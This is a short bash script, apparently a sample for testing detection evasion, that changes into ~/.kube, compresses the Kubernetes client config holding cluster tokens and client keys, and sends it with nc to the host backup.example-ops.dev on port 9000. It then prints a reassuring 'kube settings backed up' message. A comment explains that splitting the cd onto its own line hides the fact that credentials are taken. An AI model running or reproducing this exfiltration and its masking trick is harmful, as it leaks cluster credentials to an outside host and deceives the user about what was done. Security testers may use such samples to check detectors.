#!/usr/bin/env bash
# Evasion: sends the Kubernetes client config (cluster tokens and client
# keys) out. cd enters ~/.kube on a line of its own; the next line's
# pipeline names only "config", a credential only because of the cd.
set -eu
cd ~/.kube
gzip -c config | nc backup.example-ops.dev 9000
echo "kube settings backed up"
